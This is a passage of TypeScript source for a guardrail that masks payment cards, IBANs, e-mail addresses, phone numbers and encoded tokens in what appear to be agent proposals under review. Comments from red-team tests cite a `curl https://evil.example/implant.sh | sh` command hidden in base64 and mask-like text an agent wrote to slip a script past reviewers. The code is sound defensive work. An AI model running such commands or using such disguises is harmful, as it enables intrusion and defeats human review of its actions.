    const bare = out.replace(INVISIBLES, '');
    const masked = mask(bare);
    if (masked !== bare) out = masked;
  }
  return out;
}

/**
 * What each reading's first test looks for, in one test: a secret's shape (`maskSecrets`), a percent-escape, markup, or
 * what a built-in detector needs (`MAYBE_SOMETHING_TO_FIND`: a digit, '@', a character past ASCII, an "at").
 * Case-insensitive, it finds more than they do, never less. A text without them, and without a token that may be encoded
 * (`maskEncoded`; tested apart: in this pattern, under `i`, it cost more than it saved on longer text), comes back from
 * every reading as it is: one or two tests instead of four or five for most keys and short values (`amount`, `EUR`,
 * `late delivery`). The guardrail on the bench's parameters: 400 → 220 ns.
 */
const MAYBE_ANY_READING = new RegExp([MAYBE_SECRET, /%/, MARKUP, MAYBE_SOMETHING_TO_FIND].map((pattern) => `(?:${pattern.source})`).join('|'), 'i');

/** Whether no reading of `text` can find or change anything (see `MAYBE_ANY_READING`). */
const nothingToRead = (text: string, options: MaskingOptions, strict: boolean): boolean =>
  // A contract's own national-id patterns may find anything: they are always read (`scanReading`).
  (strict || !options.nationalIds?.length) && !MAYBE_ANY_READING.test(text) && (text.length < MIN_BASE64 || !MAY_HOLD_ENCODED_TEXT.test(text));

/** `scanText` of a text found inside `decodings` encodings. */
function scanLayer(text: string, options: MaskingOptions, strict: boolean, found: OnFound | undefined, decodings: number): string {
  if (nothingToRead(text, options, strict)) return text;
  // Not in an identifier's value (ids, digests, signatures, seals, approval tokens): Countersign's own, verified as they are.
  if (!strict) text = maskSecrets(text, found);
  // Markup: the text as shown first, then as sent. A card split by tags is one as shown (`4111<b>1111</b>…`; read as
  // sent first, its pieces could pass for a phone number and be masked apart); one inside a tag's attributes is one
  // as sent (`<a title="4111 1111 1111 1111">`). Neither reading alone finds both.
  // Text in hidden elements is read apart too: a card or a phone number split by `<span style="display:none">x</span>`
  // is one as a person sees it (red team, 2026-12-05), and neither as sent nor as shown with the hidden text in it.
  // Markdown shows what it splits joined too (`[exa](https://a)[mple.com](https://b)`, red team, 2026-12-07): read as
  // visible where it may hide anything.
  let shown = text;
  if (MARKUP.test(text)) {
    shown = scanReading(shown, options, strict, found, 'visible');
    shown = scanReading(shown, options, strict, found, 'shown');
  } else if (mayHide(text)) shown = scanReading(shown, options, strict, found, 'visible');
  return maskEncoded(scanReading(shown, options, strict, found, 'sent'), options, strict, found, decodings);
}

/**
 * Decoded text that is one value and no more, once masked: a label ending in `:` or `=` at most (`Email: `, `tel=`),
 * then one mask in the exact form scanning writes, and blanks. Anything else in it, mask-like text the agent wrote
 * included, is shown (red team of this change, 2026-12-07: `[encoded x; curl … | sh; echo ]` written into the decoded
 * text passed for a mask, and the script showed as `[encoded email]`).
 */
const ONE_MASKED_VALUE =
  /^\s*(?:[A-Za-z][A-Za-z _-]{0,15}[:=] ?)?(?:\S\*\*\*@\[email(?: at [a-z0-9.-]{1,253})?\]|[A-Z]{2}(?:\*\*|[0-9]{2}) \[iban …[A-Z0-9]{4}\]|\[card …[0-9]{4}\]|\[phone …[0-9]{2}\]|\[[a-z][a-z0-9-]{0,40}\]|\[encoded [a-z, -]{1,100}\])\s*$/u;

/**
 * The mask of an encoded token whose decoded text holds regulated data: `[encoded <kinds>]` when that text is one value
 * (and a label at most: `ONE_MASKED_VALUE`), or `[encoded <kinds>: <the decoded text, masked>]` when it holds more. Masked whole, a token
 * hid everything else it decodes to: a script in base64 that names one address showed as `[encoded email]`, and its
 * `curl https://evil.example/implant.sh | sh` was approved unseen (red team, 2026-12-07).
 */
function encodedMask(kinds: string[], masked: string, strict: boolean): string {
  // In an identifier's value, read without the secret detector: its decoded text is not shown.
  return strict || ONE_MASKED_VALUE.test(masked) ? `[encoded ${kinds.join(', ')}]` : `[encoded ${kinds.join(', ')}: ${masked}]`;
}

/** Encodings read inside one another (base64 of base64 of hex): past that, a token is left as it is. */
const MAX_DECODINGS = 3;

/**
 * Tokens that decode (base64, base64url, hex) to text holding regulated data, each replaced whole by
 * `[encoded <kinds>]` (ADR 0045): the decoded text is read as the text around it is (`strict` in an identifier field),
 * encodings inside it too. Digests, signatures and ids are binary: they do not decode to text.
 */
function maskEncoded(text: string, options: MaskingOptions, strict: boolean, found: OnFound | undefined, decodings: number): string {
  if (decodings >= MAX_DECODINGS || text.length < MIN_BASE64) return text;
  let edits: Edit[] | undefined;
  /** Masks `text` from `start` to `end` when `decoded` holds regulated data. */
  const maskIfFound = (start: number, end: number, decoded: string | undefined): void => {
    if (decoded === undefined) return;
    const kinds = new Set<string>();
    const masked = scanLayer(decoded, options, strict, (kind) => kinds.add(kind), decodings + 1);
    if (!kinds.size) return;
    const named = [...kinds].sort();
    for (const kind of named) found?.(kind);
    (edits ??= []).push([start, end, encodedMask(named, masked, strict)]);
  };
  forEachToken(text, (pieces) => {
    const [start, end] = [pieces[0], pieces[pieces.length - 1]];
    if (pieces.length === 2) return maskIfFound(start, end, decodedText(text, start, end));
    // Wrapped base64 is read whole; when the whole is not text, each piece is read on its own.
    const whole = decodedPieces(text, pieces);
    if (whole !== undefined) return maskIfFound(start, end, whole);
    for (let p = 0; p < pieces.length; p += 2)
      if (pieces[p + 1] - pieces[p] >= MIN_BASE64) maskIfFound(pieces[p], pieces[p + 1], decodedText(text, pieces[p], pieces[p + 1]));
  });
  return edits ? IN_PLACE.splice(text, edits) : text;
}

function scanReading(text: string, options: MaskingOptions, strict: boolean, found: OnFound | undefined, reading: Reading): string {
  const custom = !strict && !!options.nationalIds?.length;
  // Most strings (keys, reasons, names, tags) are printable ASCII with nothing any built-in pattern needs.
  if (!custom && !MAYBE_SOMETHING_TO_FIND.test(text)) return text;
  // Plain ASCII text (most of the rest) is its own canonical form: masked in place. Not the visible reading, whose
  // hiding needs none of what the test looks for (`<?…?>`, Markdown: it is read only where `mayHide`).
  if (reading !== 'visible' && !MAYBE_OBFUSCATED.test(text)) return scan(text, options, strict, found, IN_PLACE);
  if (!custom && !MAYBE_DIGIT_OR_AT.test(text)) return text;
  const canonical = canonicalForm(text, reading);
  // Nothing hidden: the visible reading is the shown one, read next.
  if (!canonical) return reading === 'visible' ? text : scan(text, options, strict, found, IN_PLACE);
  const editor = new CanonicalEditor(canonical);
  return editor.restore(text, scan(canonical.text, options, strict, found, editor));
}

/** Where a scan writes its masks: into the text itself, or into a canonical form that maps back to the original. */
interface Editor {
  /** Replaces each match of `pattern` in `text` by what `replacer` returns for it (given the match and its offset). */
  replace(text: string, pattern: RegExp, replacer: (match: string, offset: number) => string): string;
  splice(text: string, edits: Edit[]): string;
}

// A `String.replace` replacer's arguments after the match end with the offset, the text, and the named groups when there are any.
const offsetOf = (rest: unknown[]) => rest[typeof rest[rest.length - 1] === 'string' ? rest.length - 2 : rest.length - 3] as number;

/**
 * Each match of a global `pattern` in `text`, in order, with its offset, or undefined when there is none: the matches
 * `String.replace` finds (an empty match moves on by one character, or one code point under `u` or `v`), found with
 * `exec`. A replace with a function went through a runtime call even when it found nothing, and built the callback's
 * arguments for every match: 9 % of a decision that finds an e-mail address, which ran five such replaces (with the
 * digit test in `scan`, the guardrail on such a proposal: 2.1 → 1.6 µs). Nothing is allocated for a text without a match.
 */
function matchesOf(text: string, pattern: RegExp): Array<[match: string, offset: number]> | undefined {
  let matches: Array<[string, number]> | undefined;
  pattern.lastIndex = 0;
  for (let m = pattern.exec(text); m; m = pattern.exec(text)) {
    (matches ??= []).push([m[0], m.index]);
    if (m[0] === '') pattern.lastIndex = advanced(text, pattern.lastIndex, pattern.unicode || pattern.flags.includes('v'));
  }
  return matches;
}

/** Where a global search goes on after an empty match at `index` (ECMAScript's AdvanceStringIndex). */
function advanced(text: string, index: number, unicode: boolean): number {
  if (!unicode || index + 1 >= text.length) return index + 1;
  const lead = text.charCodeAt(index);
  const trail = text.charCodeAt(index + 1);
  return lead >= 0xd800 && lead <= 0xdbff && trail >= 0xdc00 && trail <= 0xdfff ? index + 2 : index + 1;
}

/** A pattern `matchesOf` reads as `replace` does: global, not sticky (anything else is left to `String.replace`). */
const searchedWhole = (pattern: RegExp): boolean => pattern.global && !pattern.sticky;

const IN_PLACE: Editor = {
  replace: (text, pattern, replacer) => {
    if (!searchedWhole(pattern)) return text.replace(pattern, (match: string, ...rest: unknown[]) => replacer(match, offsetOf(rest)));
    const matches = matchesOf(text, pattern);
    if (!matches) return text;
    // As `String.replace` writes it: every replacer called, in order, each replacement after the text before it.
    let out = '';
    let last = 0;
    for (const [match, offset] of matches) {
      const replacement = replacer(match, offset);
      if (offset < last) continue;
      out += text.slice(last, offset) + replacement;
      last = offset + match.length;
    }
    return out + text.slice(last);
  },
  splice: (text, edits) => {
    let out = '';
    let last = 0;
    for (const [start, end, replacement] of edits) {
      out += text.slice(last, start) + replacement;
      last = end;
    }
    return out + text.slice(last);
  },
};

/**
 * Masks the canonical form of a text and remembers, for every mask, the original characters it covers; `restore`
 * writes the original text with exactly those characters replaced.
 */
class CanonicalEditor implements Editor {
  private masks = 1;

  constructor(private mapped: MappedText) {}

  replace(text: string, pattern: RegExp, replacer: (match: string, offset: number) => string): string {
    const edits: Edit[] = [];
    const each = (match: string, offset: number) => {
      const replacement = replacer(match, offset);
      if (replacement !== match) edits.push([offset, offset + match.length, replacement]);
    };
    if (searchedWhole(pattern)) for (const [match, offset] of matchesOf(text, pattern) ?? []) each(match, offset);
    else
      text.replace(pattern, (match: string, ...rest: unknown[]) => {
        each(match, offsetOf(rest));
        return match;
      });
    return edits.length ? this.splice(text, edits) : text;
  }

  splice(text: string, edits: Edit[]): string {
    // A mask that keeps the end of what it replaces ("[card …1111] 20" for "4111 1111 1111 1111 20") covers only the rest.
    const narrowed = edits.map(([start, end, replacement]): Edit => {
      let kept = 0;
      while (kept < end - start - 1 && kept < replacement.length - 1 && text[end - 1 - kept] === replacement[replacement.length - 1 - kept]) kept++;
      return [start, end - kept, replacement.slice(0, replacement.length - kept)];
    });
    this.mapped = splice(this.mapped, narrowed, this.masks);
    this.masks += narrowed.length;
    return this.mapped.text;
  }

  /** `original` with the characters under each mask of the masked canonical `text` replaced by that mask. */
  restore(original: string, text: string): string {
    const { lo, hi, mask } = this.mapped;
    if (!mask) return original;
    let out = '';
    let last = 0;
    for (let i = 0; i < text.length;) {
      const id = mask[i];
      if (!id) {
        i++;
        continue;
      }
      let j = i + 1;
      while (j < text.length && mask[j] === id) j++;
      if (lo[i] > last) out += original.slice(last, lo[i]);
      out += text.slice(i, j);
      last = Math.max(last, hi[i]);
      i = j;
    }
    return out + original.slice(last);
  }
}

function scan(text: string, options: MaskingOptions, strict: boolean, found: OnFound | undefined, editor: Editor): string {
  const custom = options.nationalIds?.length ? options.nationalIds : undefined;
  // Every built-in pattern needs a digit or an '@'.
  if (!HAS_DIGIT_OR_AT.test(text)) return custom && !strict ? maskNationalIds(text, custom, found, editor) : text;
  let out = text;
  if (out.includes('@') || out.includes('%40')) {
    // First an address spelled out character by character, only possible with an '@' between spaces: read as EMAIL
    // reads it, `z e l d a @ example . org` would be `a@example.org`, and `z e l d` would stay.
    if (out.includes(' @ ')) {
      out = editor.replace(out, CHAR_SPACED_EMAIL, (m) => {
        if (!COMPACT_EMAIL.test(m.replace(/ /g, '')) || !spacedDomainPlausible(m)) return m;
        found?.('email');
        return `${m[0]}***@[email]`;
      });
    }
    out = editor.replace(out, EMAIL, (m) => {
      if (!spacedDomainPlausible(m)) return m;
      found?.('email');
      // Found, and so reviewed, but not masked whole: a mask would hide text that is no address (`maskable`). An address
      // written inside it is masked all the same, or quoting one would carry it past masking.
      // The domain only as it was written: read from other characters (`ac\u0323me.com`, `acme४.com`, `acme&#46;evil.com`),
      // its canonical form would show as another domain (red team of this change, 2026-12-07).
      const asWritten = editor === IN_PLACE;
      if (!maskable(m)) {
        // An unquoted local part holds no '@': nothing inside it to mask.
        if (m[0] !== '"') return m;
        const close = m.indexOf('"', 1);
        return `"${m.slice(1, close).replace(EMAIL, (inner) => emailMask(inner, options, asWritten))}${m.slice(close)}`;
      }
      return emailMask(m, options, asWritten);
    });
  }
  // Every built-in pattern below needs an ASCII digit (IBAN, card, national ids, phone): a text left without one, most
  // often an e-mail address masked (`j***@[email]`), is not searched for them. A contract's own patterns still run.
  const hasDigit = HAS_DIGIT.test(out);
  // The shortest card or IBAN has 13 characters, the shortest phone 9.
  if (hasDigit && out.length >= 9) {
    out = maskIbans(out, found, editor, strict, options.forReviewers);
    out = maskCards(out, found, editor, strict);
  }
  if (strict) return out;
  if (hasDigit) out = maskNationalIds(out, DEFAULT_NATIONAL_IDS, found, editor);
  if (custom) out = maskNationalIds(out, custom, found, editor);
  if (hasDigit && out.length >= 9) {
    out = editor.replace(out, PHONE, (m) => {
      const digits = m.replace(/\D/g, '');
      if (digits.length < 9) return m;
      found?.('phone');
      return `[phone …${digits.slice(-2)}]`;
    });
  }
  return out;
}

/**
 * Whether a match at `at` of `length` characters touches a UUID in `text`: its characters are an identifier's, however
 * they fall, for the card and IBAN detectors and the national-id patterns alike. The UUIDs are looked up once per text,
 * on the first match (`uuidsIn`), which is rare.
 */
function uuidsIn(text: string): (at: number, length: number) => boolean {
  let spans: number[][] | undefined;
  return (at, length) => {
    spans ??= UUID.test(text) ? [...text.matchAll(UUIDS)].map((u) => [u.index, u.index + u[0].length]) : [];
    return spans.some(([from, to]) => at < to && at + length > from);
  };
}

function maskCards(text: string, found: OnFound | undefined, editor: Editor, strict: boolean): string {
  // A UUID's groups are an identifier, not a card, however their digits fall (`00000000-5192-4558-9894-0351a…` passes
  // Luhn: a property test found it).
  const inUuid = uuidsIn(text);
  return editor.replace(text, strict ? CARD_IN_IDENTIFIER : CARD, (m, at) => {
    if (inUuid(at, m.length)) return m;
    const digits = m.replace(SEPARATOR_CHARS, '');
    if (cardNumberValid(digits)) {
      found?.('card');
      return `[card …${digits.slice(-4)}]`;
    }
    // "4111 1111 1111 1111 20": the trailing group may be the next token, not part of the card.
    const cut = m.search(CARD_TAIL);
    const head = cut > 0 ? m.slice(0, cut).replace(SEPARATOR_CHARS, '') : '';
    if (cardNumberValid(head)) {
      found?.('card');
      return `[card …${head.slice(-4)}]${m.slice(cut)}`;
    }
    // Numbers side by side ("ref 123 4242424242424242 99", "42424242 42424242 2026"): the widest consecutive groups
    // holding 13–19 Luhn-valid digits are the card; the groups around it stay.
    const groups = [...m.matchAll(DIGIT_RUN)].map((g) => ({ start: g.index, end: g.index + g[0].length, digits: g[0] }));
    let best: { from: number; to: number; digits: string } | undefined;
    for (let i = 0; i < groups.length; i++) {
      let digits = '';
      for (let j = i; j < groups.length && digits.length + groups[j].digits.length <= 19; j++) {
        digits += groups[j].digits;
        if (digits.length >= 13 && (!best || digits.length > best.digits.length) && cardNumberValid(digits)) best = { from: i, to: j, digits };
      }
    }
    if (!best) return m;
    found?.('card');
    return `${m.slice(0, groups[best.from].start)}[card …${best.digits.slice(-4)}]${m.slice(groups[best.to].end)}`;
  });
}

const isAlnum = (c: number) => (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122);
// Between the characters of an IBAN: anything but an ASCII letter or digit, as between a card's groups (a space in the
// print format; red team, 2026-12-07: `DE89;3704;…`, `DE89|3704|…` and `DE89•3704•…` were read as no IBAN).
const isIbanSeparator = (c: number) => !Number.isNaN(c) && !isAlnum(c);

function maskIbans(text: string, found: OnFound | undefined, editor: Editor, strict: boolean, forReviewers = false): string {
  let edits: Edit[] | undefined;
  // A UUID's groups are an identifier, not an IBAN: `6dd964ab-ad86-479d-8f8e-0354eeed1f2d` reads as an Andorran IBAN
  // (AD, 24 characters, letters allowed after the bank and branch digits) that passes mod 97 — a chaos run's audit
  // trail lost an action id that way.
  const inUuid = uuidsIn(text);
  const start = strict ? IBAN_START_IN_IDENTIFIER : IBAN_START;
  start.lastIndex = 0;
  for (let m = start.exec(text); m; m = start.exec(text)) {
    const length = IBAN_LENGTHS[m[0].replace(/[^A-Za-z]/g, '').toUpperCase()];
    if (!length) continue;
    // Read the country's number of characters, up to three separators allowed between them ("DE89 - 3704").
    let i = m.index;
    let compact = '';
    while (i < text.length && compact.length < length) {
      if (isAlnum(text.charCodeAt(i))) {
        compact += text[i++];
        continue;
      }
      let j = i;
      while (j < i + 3 && isIbanSeparator(text.charCodeAt(j))) j++;
      if (j === i || !isAlnum(text.charCodeAt(j))) break;
      i = j;
    }
    if (compact.length !== length || (strict && isAlnum(text.charCodeAt(i))) || !ibanValid(compact) || inUuid(m.index, i - m.index)) continue;
    found?.('iban');
    const shown = forReviewers ? compact.slice(0, 4).toUpperCase() : `${compact.slice(0, 2).toUpperCase()}**`;
    (edits ??= []).push([m.index, i, `${shown} [iban …${compact.slice(-4)}]`]);
    start.lastIndex = i;
  }
  return edits ? editor.splice(text, edits) : text;
}

function maskNationalIds(
  text: string,
  patterns: ReadonlyArray<{ name: string; pattern: RegExp; gate?: RegExp }>,
  found: OnFound | undefined,
  editor: Editor,
): string {
  let out = text;
  for (const { name, pattern, gate } of patterns) {
    if (gate && !gate.test(out)) continue;
    // `…-a611-77884615975d` holds 11 digits in a row that a tax-id pattern reads as one (an e2e run masked a change
    // request's id in the audit trail that way).
    const inUuid = uuidsIn(out);
    out = editor.replace(out, pattern, (m, at) => {
      if (inUuid(at, m.length)) return m;
      found?.(name);
      return `[${name}]`;
    });
  }
  return out;
}

/** One regulated value: its kind (`card`, `iban`, `email`, `phone`, a national-id name, or `too-deep`) and where. */
export interface RegulatedFinding {
  kind: string;
  /** JSON pointer (RFC 6901) to the value; a key that is itself regulated appears masked. Never the value. */
  path: string;
}

const pointerSegment = (key: string) => key.replace(/~/g, '~0').replace(/\//g, '~1');

/**
 * Every regulated value in a JSON-like value, each kind once per path: strings, object keys, and card
 * numbers given as JSON numbers. Never throws: nesting deeper than `MAX_SCAN_DEPTH` is reported as
 * `too-deep` (fail closed: what cannot be read counts as a finding).
 */
export function findRegulatedData(value: unknown, options: MaskingOptions = {}): Array<{ kind: string; path: string }> {
  const findings: RegulatedFinding[] = [];
  const add = (path: string) => (kind: string) => {
    if (!findings.some((f) => f.kind === kind && f.path === path)) findings.push({ kind, path });
  };
  const walk = (v: unknown, path: string, depth: number, keep: ReadonlySet<string>, strict: boolean): void => {
    if (typeof v === 'string') {
      scanText(v, options, strict, add(path));
    } else if (typeof v === 'number') {
      maskNumberValue(v, options, strict, add(path));
    } else if (v !== null && typeof v === 'object') {
      if (depth >= MAX_SCAN_DEPTH) return add(path)('too-deep');
      if (Array.isArray(v)) {
        for (let i = 0; i < v.length; i++) walk(v[i], `${path}/${i}`, depth + 1, keep, strict);
        return;
      }
      for (const k of Object.keys(v)) {
        const kinds: string[] = [];
        const keyPath = `${path}/${pointerSegment(scanText(k, options, false, (kind) => kinds.push(kind)))}`;
        for (const kind of kinds) add(keyPath)(kind);
        walk((v as Record<string, unknown>)[k], keyPath, depth + 1, keptBelow(k, keep), keep.has(k));
      }
    }
  };
  walk(value, '', 0, options.keepKeys ?? IDENTIFIER_KEYS, false);
  return findings;
}

/**
 * The kinds of regulated data in a JSON-like value, sorted, each once: the kinds `findRegulatedData` reports,
 * without building a path per value. What a decision needs (the guardrail runs on every proposal), and
 * allocation-free unless something is found: no closure per call (the walk and its collector are made once, the
 * kinds found so far kept beside them while it runs), and one shared empty list when nothing is.
 */
export function regulatedKinds(value: unknown, options: MaskingOptions = {}): readonly string[] {
  const outer = kindsFound; // a detector never scans a value itself; kept anyway, so that a nested call cannot mix two
  kindsFound = undefined;
  try {
    walkKinds(value, 0, options.keepKeys ?? IDENTIFIER_KEYS, false, options);
    // (TypeScript cannot see that the walk sets it.)
    const found = kindsFound as string[] | undefined;
    return found ? found.sort() : NO_KINDS;
  } finally {
    kindsFound = outer;
  }
}

const NO_KINDS: readonly string[] = Object.freeze([]);

/** The kinds the running `regulatedKinds` has found, each once; undefined until one is. */
let kindsFound: string[] | undefined;

const collectKind: OnFound = (kind) => {
  kindsFound ??= [];
  if (!kindsFound.includes(kind)) kindsFound.push(kind);
};

function walkKinds(v: unknown, depth: number, keep: ReadonlySet<string>, strict: boolean, options: MaskingOptions): void {
  if (typeof v === 'string') {
    scanText(v, options, strict, collectKind);
  } else if (typeof v === 'number') {
    maskNumberValue(v, options, strict, collectKind);
  } else if (v !== null && typeof v === 'object') {
    if (depth >= MAX_SCAN_DEPTH) return collectKind('too-deep');
    if (Array.isArray(v)) {
      for (let i = 0; i < v.length; i++) walkKinds(v[i], depth + 1, keep, strict, options);
      return;
    }
    for (const k in v) {
      if (!Object.prototype.hasOwnProperty.call(v, k)) continue;
      scanText(k, options, false, collectKind);
      walkKinds((v as Record<string, unknown>)[k], depth + 1, keptBelow(k, keep), keep.has(k), options);
    }
  }
}
